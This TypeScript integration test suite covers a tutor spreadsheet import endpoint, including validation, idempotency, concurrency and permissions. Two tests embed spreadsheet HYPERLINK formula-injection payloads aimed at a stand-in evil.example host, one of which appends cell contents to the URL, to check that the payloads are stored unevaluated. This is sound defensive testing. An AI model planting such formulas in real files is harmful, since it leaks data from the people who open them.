import ExcelJS from 'exceljs';
import pino from 'pino';
import { AuditEvent } from '../src/audit/audit-event.entity';
import { loadDemoData } from '../src/database/demo/demo-loader';
import { OutboxMessage } from '../src/modules/mail/outbox-message.entity';
import { Organisation } from '../src/modules/organisations/organisation.entity';
import { Person } from '../src/modules/people/person.entity';
import { RoleGrant } from '../src/modules/people/role-grant.entity';
import { TutorParticipation } from '../src/modules/people/tutor-participation.entity';
import { TutorProfile } from '../src/modules/people/tutor-profile.entity';
import { createPerson, TEST_PASSWORD } from './support/fixtures';
import { GqlClient } from './support/gql-client';
import { startTestApp, TestApp } from './support/test-app';
import { waitFor } from './support/wait-for';

const HEADER =
  'email,given_name,family_name,organisation_registry_code,occupation_field,years_of_experience,languages,preferred_language';
const MAX_BYTES = 300_000;

interface UploadResult {
  status: number;
  body: {
    dryRun?: boolean;
    totalRows?: number;
    summary?: { new: number; updated: number; unchanged: number };
    errors?: { row: number; column: string; message: string }[];
    importJob?: {
      id: string;
      status: string;
      totalRows: number;
      processedRows: number;
      summary: { new: number; updated: number; unchanged: number } | null;
    };
    error?: {
      code: string;
      message: string;
      fields?: { field: string; message: string }[];
      rowErrors?: { row: number; column: string; message: string }[];
    };
  };
}

async function upload(
  t: TestApp,
  client: GqlClient,
  file: { name: string; bytes: Buffer | string },
  fields: Record<string, string>,
): Promise<UploadResult> {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  const bytes = typeof file.bytes === 'string' ? Buffer.from(file.bytes, 'utf8') : file.bytes;
  form.append('file', new Blob([new Uint8Array(bytes)]), file.name);
  const res = await fetch(`${t.baseUrl}/api/imports/tutors`, {
    method: 'POST',
    headers: {
      'x-tandem-upload': '1',
      'x-forwarded-for': client.ip,
      ...(client.cookie ? { cookie: client.cookie } : {}),
    },
    body: form,
  });
  return { status: res.status, body: (await res.json()) as UploadResult['body'] };
}

describe('tutor import', () => {
  let t: TestApp;
  let coordinator: GqlClient;
  let serial = 0;
  const school = { registryCode: 'IMP-SCHOOL-1' };
  const company = { registryCode: 'IMP-COMPANY-1' };

  const csv = (rows: string[]) => [HEADER, ...rows].join('\r\n') + '\r\n';
  const freshRows = (n: number, org = school.registryCode) =>
    Array.from({ length: n }, () => {
      const i = ++serial;
      return `tutor${i}.import@test.example,Mari${i},Tamm,${org},Welding,${i % 30},"et,en",et`;
    });
  const countOf = async (emails: string[]) =>
    t.db.getRepository(Person).createQueryBuilder('p').where('p.email IN (:...emails)', { emails }).getCount();
  const emailsOf = (rows: string[]) => rows.map((r) => r.split(',')[0]);

  beforeAll(async () => {
    t = await startTestApp({ STORAGE_MAX_FILE_BYTES: String(MAX_BYTES), PUBLIC_URL: 'https://tandem.test' });
    await loadDemoData(t.db, pino({ level: 'silent' }), 'test');
    const orgs = t.db.getRepository(Organisation);
    await orgs.save([
      orgs.create({
        name: 'Import Kool',
        kind: 'VET_INSTITUTION',
        countryCode: 'EE',
        registryCode: school.registryCode,
        city: 'Tartu',
      }),
      orgs.create({
        name: 'Import OÜ',
        kind: 'COMPANY',
        countryCode: 'EE',
        registryCode: company.registryCode,
        city: 'Tartu',
      }),
      orgs.create({ name: 'Import SIA', kind: 'COMPANY', countryCode: 'LV', registryCode: 'IMP-LV-1', city: 'Rīga' }),
    ]);
    const person = await createPerson(t.db, [{ role: 'COORDINATOR', countryCode: 'EE' }], { preferredLanguage: 'et' });
    coordinator = new GqlClient(t.baseUrl);
    await coordinator.login(person.email, TEST_PASSWORD);
    // Loading the whole demo takes 10-20 s on a busy 2-core machine: more than the default 30 s leaves.
  }, 120_000);
  afterAll(() => t.close());

  it('offers a CSV template with the header row', async () => {
    const res = await fetch(`${t.baseUrl}/api/imports/tutors/template.csv`, {
      headers: { cookie: coordinator.cookie!, 'x-forwarded-for': coordinator.ip },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    // Bytes, not text(): fetch's decoder would strip the BOM that tells Excel the file is UTF-8.
    expect(Buffer.from(await res.arrayBuffer()).toString('utf8')).toBe(`\ufeff${HEADER}\r\n`);
    expect((await fetch(`${t.baseUrl}/api/imports/tutors/template.csv`)).status).toBe(401);
  });

  it('dry run reports what would change and changes nothing', async () => {
    const rows = freshRows(3);
    const res = await upload(t, coordinator, { name: 'tutors.csv', bytes: csv(rows) }, { dryRun: 'true' });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ dryRun: true, totalRows: 3, summary: { new: 3, updated: 0, unchanged: 0 }, errors: [] });
    expect(await countOf(emailsOf(rows))).toBe(0);
  });

  it('imports people, TUTOR grants, profiles and participation; re-importing the same file changes nothing', async () => {
    const rows = [...freshRows(2), ...freshRows(1, company.registryCode)];
    const file = { name: 'tutors.csv', bytes: csv(rows) };
    const first = await upload(t, coordinator, file, { dryRun: 'false', sendInvitations: 'true' });
    expect(first.status).toBe(202);
    expect(first.body.importJob).toMatchObject({
      status: 'SUCCEEDED',
      totalRows: 3,
      processedRows: 3,
      summary: { new: 3, updated: 0, unchanged: 0 },
    });
    const people = await t.db
      .getRepository(Person)
      .createQueryBuilder('p')
      .where('p.email IN (:...emails)', { emails: emailsOf(rows) })
      .getMany();
    expect(people).toHaveLength(3);
    const ids = people.map((p) => p.id);
    const profiles = await t.db
      .getRepository(TutorProfile)
      .createQueryBuilder('tp')
      .where('tp.person_id IN (:...ids)', { ids })
      .getMany();
    expect(profiles.map((p) => p.side).sort()).toEqual(['COMPANY', 'SCHOOL', 'SCHOOL']);
    expect(profiles[0]).toMatchObject({ occupationField: 'Welding', languages: ['et', 'en'] });
    expect(
      await t.db
        .getRepository(RoleGrant)
        .createQueryBuilder('g')
        .where(`g.person_id IN (:...ids) AND g.role = 'TUTOR' AND g.scope_kind = 'SELF'`, { ids })
        .getCount(),
    ).toBe(3);
    expect(
      await t.db
        .getRepository(TutorParticipation)
        .createQueryBuilder('x')
        .where('x.person_id IN (:...ids)', { ids })
        .getCount(),
    ).toBe(3);
    const invitations = await t.db
      .getRepository(OutboxMessage)
      .createQueryBuilder('m')
      .where('m.recipient_person_id IN (:...ids)', { ids })
      .getMany();
    expect(invitations.map((m) => [m.kind, m.language])).toEqual([
      ['INVITATION', 'et'],
      ['INVITATION', 'et'],
      ['INVITATION', 'et'],
    ]);
    expect(invitations[0].textBody).toMatch(/https:\/\/tandem\.test\/invitation\//);

    const snapshot = async () =>
      JSON.stringify(
        await t.db.query(
          `SELECT p.*, tp.*, (SELECT count(*) FROM role_grant g WHERE g.person_id = p.id) AS grants FROM person p JOIN tutor_profile tp ON tp.person_id = p.id WHERE p.id = ANY($1) ORDER BY p.email`,
          [ids],
        ),
      );
    const before = await snapshot();
    const again = await upload(t, coordinator, file, { dryRun: 'false', sendInvitations: 'true' });
    expect(again.body.importJob).toMatchObject({ status: 'SUCCEEDED', summary: { new: 0, updated: 0, unchanged: 3 } });
    expect(await snapshot()).toBe(before);
    expect(
      await t.db
        .getRepository(OutboxMessage)
        .createQueryBuilder('m')
        .where('m.recipient_person_id IN (:...ids)', { ids })
        .getCount(),
    ).toBe(3);
    expect(
      await t.db.getRepository(AuditEvent).countBy({ operation: 'importTutors', targetId: first.body.importJob!.id }),
    ).toBe(2);

    const changed = csv([rows[0].replace('Welding', 'Cookery'), rows[1], rows[2]]);
    const dry = await upload(t, coordinator, { name: 'tutors.csv', bytes: changed }, { dryRun: 'true' });
    expect(dry.body.summary).toEqual({ new: 0, updated: 1, unchanged: 2 });
  });

  it('lets exactly one of two concurrent imports of the same file create the people', async () => {
    const rows = freshRows(20);
    const file = { name: 'tutors.csv', bytes: csv(rows) };
    const results = await Promise.all([
      upload(t, coordinator, file, { dryRun: 'false' }),
      upload(t, coordinator, file, { dryRun: 'false' }),
    ]);
    expect(results.map((r) => r.body.importJob?.status)).toEqual(['SUCCEEDED', 'SUCCEEDED']);
    expect(results.map((r) => r.body.importJob?.summary?.new).sort()).toEqual([0, 20]);
    expect(await countOf(emailsOf(rows))).toBe(20);
    expect(
      await t.db.query(
        `SELECT count(*)::int AS n FROM role_grant g JOIN person p ON p.id = g.person_id WHERE p.email = ANY($1)`,
        [emailsOf(rows)],
      ),
    ).toEqual([{ n: 20 }]);
  });

  it('stores a formula cell as text, unevaluated', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const email = `formula${++serial}@test.example`;
    const row = `${email},Jaan,Kask,${school.registryCode},"${formula.replace(/"/g, '""')}",5,et,et`;
    const res = await upload(t, coordinator, { name: 'f.csv', bytes: csv([row]) }, { dryRun: 'false' });
    expect(res.body.importJob?.status).toBe('SUCCEEDED');
    const person = await t.db.getRepository(Person).findOneByOrFail({ email });
    expect((await t.db.getRepository(TutorProfile).findOneByOrFail({ personId: person.id })).occupationField).toBe(
      formula,
    );
  });

  it('reads XLSX, keeping a formula as its text', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Tutors');
    sheet.addRow(HEADER.split(','));
    const email = `xlsx${++serial}@test.example`;
    sheet.addRow([email, 'Ilze', 'Ozola', company.registryCode, 'Logistics', 12, 'lv,en', 'lv']);
    sheet.getCell('E2').value = {
      formula: 'HYPERLINK("http://evil.example","x")',
      result: 'x',
    } as ExcelJS.CellFormulaValue;
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = await upload(t, coordinator, { name: 'tutors.xlsx', bytes }, { dryRun: 'false' });
    expect(res.body.importJob).toMatchObject({ status: 'SUCCEEDED', summary: { new: 1, updated: 0, unchanged: 0 } });
    const person = await t.db.getRepository(Person).findOneByOrFail({ email });
    expect(person.preferredLanguage).toBe('lv');
    expect(await t.db.getRepository(TutorProfile).findOneByOrFail({ personId: person.id })).toMatchObject({
      occupationField: '=HYPERLINK("http://evil.example","x")',
      yearsOfExperience: 12,
      side: 'COMPANY',
    });
  });

  describe('refuses bad input with a clear error and changes nothing', () => {
    it('a file that is not UTF-8 (message in the uploader language)', async () => {
      const latin1 = Buffer.from(
        csv([`tonu${++serial}@test.example,Tõnu,Mägi,${school.registryCode},Welding,3,et,et`]),
        'latin1',
      );
      const res = await upload(t, coordinator, { name: 'tutors.csv', bytes: latin1 }, { dryRun: 'false' });
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: [expect.objectContaining({ field: 'file', message: expect.stringContaining('ei ole UTF-8 tekst') })],
      });
    });

    it('missing columns', async () => {
      const res = await upload(
        t,
        coordinator,
        { name: 'tutors.csv', bytes: 'email,given_name\r\na@test.example,A\r\n' },
        { dryRun: 'true' },
      );
      expect(res.status).toBe(400);
      expect(res.body.error?.fields?.[0].message).toBe(
        'puuduvad veerud: family_name, organisation_registry_code, occupation_field, years_of_experience, languages, preferred_language',
      );
    });

    it('duplicate e-mails in the file, per row and column, and the import refuses the whole file', async () => {
      const [a, b] = freshRows(2);
      const dup = a.replace(/^[^,]+/, a.split(',')[0].toUpperCase());
      const file = { name: 'tutors.csv', bytes: csv([a, b, dup]) };
      const dry = await upload(t, coordinator, file, { dryRun: 'true' });
      expect(dry.body.errors).toEqual([{ row: 4, column: 'email', message: 'esineb failis mitu korda (ka real 2)' }]);
      const res = await upload(t, coordinator, file, { dryRun: 'false' });
      expect(res.status).toBe(400);
      expect(res.body.error?.rowErrors).toEqual(dry.body.errors);
      expect(await countOf(emailsOf([a, b]))).toBe(0);
    });

    it('an e-mail of an existing person in another country', async () => {
      const lvOrg = await t.db.getRepository(Organisation).findOneByOrFail({ registryCode: 'IMP-LV-1' });
      const lvPerson = await createPerson(t.db, [{ role: 'MANAGER', organisationId: lvOrg.id }]);
      const rows = [...freshRows(1), `${lvPerson.email},Anna,Liepa,${school.registryCode},,,,lv`];
      const res = await upload(t, coordinator, { name: 'tutors.csv', bytes: csv(rows) }, { dryRun: 'false' });
      expect(res.status).toBe(400);
      expect(res.body.error?.rowErrors).toEqual([
        {
          row: 3,
          column: 'email',
          message: 'seda ei saa sellest failist importida; palu programmi administraatoril see isik lisada',
        },
      ]);
      // The message does not confirm that the address belongs to an account of another country (issue 17).
      expect(JSON.stringify(res.body)).not.toMatch(/riigi|country/);
      expect(await countOf(emailsOf(rows.slice(0, 1)))).toBe(0);
      expect(await t.db.getRepository(TutorProfile).countBy({ personId: lvPerson.id })).toBe(0);
    });

    it('unknown organisations, bad numbers, languages and missing names', async () => {
      const res = await upload(
        t,
        coordinator,
        {
          name: 'tutors.csv',
          bytes: csv([`x${++serial}@test.example,,Tamm,NOPE,,abc,"et,english",de`, `not-an-email,A,B,IMP-LV-1,,,,`]),
        },
        { dryRun: 'true' },
      );
      expect(res.body.errors?.map((e) => [e.row, e.column])).toEqual([
        [2, 'given_name'],
        [2, 'years_of_experience'],
        [2, 'languages'],
        [2, 'preferred_language'],
        [3, 'email'],
      ]);
    });

    it('a file over the size limit', async () => {
      const big = csv(
        Array.from(
          { length: 4000 },
          (_, i) => `big${i}@test.example,Mari,Tamm,${school.registryCode},${'x'.repeat(60)},1,et,et`,
        ),
      );
      expect(big.length).toBeGreaterThan(MAX_BYTES);
      const res = await upload(t, coordinator, { name: 'big.csv', bytes: big }, { dryRun: 'false' });
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: [expect.objectContaining({ field: 'file', message: expect.stringMatching(/larger than/) })],
      });
      expect(await countOf(['big0@test.example'])).toBe(0);
    });

    it('an import into another country, or by a tutor', async () => {
      const res = await upload(
        t,
        coordinator,
        { name: 'tutors.csv', bytes: csv(freshRows(1)) },
        { dryRun: 'true', countryCode: 'LV' },
      );
      expect(res.status).toBe(403);
      const tutorPerson = await createPerson(t.db, [{ role: 'TUTOR' }]);
      const tutor = new GqlClient(t.baseUrl);
      await tutor.login(tutorPerson.email, TEST_PASSWORD);
      expect(
        (await upload(t, tutor, { name: 'tutors.csv', bytes: csv(freshRows(1)) }, { dryRun: 'true' })).status,
      ).toBe(403);
    });
  });

  describe('with the job queue running', () => {
    let q: TestApp;
    beforeAll(async () => {
      q = await startTestApp({ JOBS_ENABLED: 'true' });
      await loadDemoData(q.db, pino({ level: 'silent' }), 'test');
      await q.db.getRepository(Organisation).save(
        q.db.getRepository(Organisation).create({
          name: 'Queue Kool',
          kind: 'VET_INSTITUTION',
          countryCode: 'EE',
          registryCode: school.registryCode,
        }),
      );
    });
    afterAll(() => q.close());

    it('runs the import as a pg-boss job whose progress importJob shows', async () => {
      const person = await createPerson(q.db, [{ role: 'COORDINATOR', countryCode: 'EE' }]);
      const client = new GqlClient(q.baseUrl);
      await client.login(person.email, TEST_PASSWORD);
      const res = await upload(q, client, { name: 'tutors.csv', bytes: csv(freshRows(50)) }, { dryRun: 'false' });
      expect(res.status).toBe(202);
      expect(res.body.importJob).toMatchObject({ totalRows: 50 });
      const QUERY = `query Job($id: String!) { importJob(id: $id) { status totalRows processedRows summary { new updated unchanged } error } }`;
      const done = await waitFor(async () => {
        const job = (await client.request<{ importJob: { status: string } }>(QUERY, { id: res.body.importJob!.id }))
          .data?.importJob;
        return job && (job.status === 'SUCCEEDED' || job.status === 'FAILED') ? job : null;
      });
      expect(done).toEqual({
        status: 'SUCCEEDED',
        totalRows: 50,
        processedRows: 50,
        summary: { new: 50, updated: 0, unchanged: 0 },
        error: null,
      });
      const other = await createPerson(q.db, [{ role: 'COORDINATOR', countryCode: 'LV' }]);
      const lv = new GqlClient(q.baseUrl);
      await lv.login(other.email, TEST_PASSWORD);
      expect((await lv.request(QUERY, { id: res.body.importJob!.id })).errors?.[0].extensions.code).toBe('NOT_FOUND');
    });
  });
});
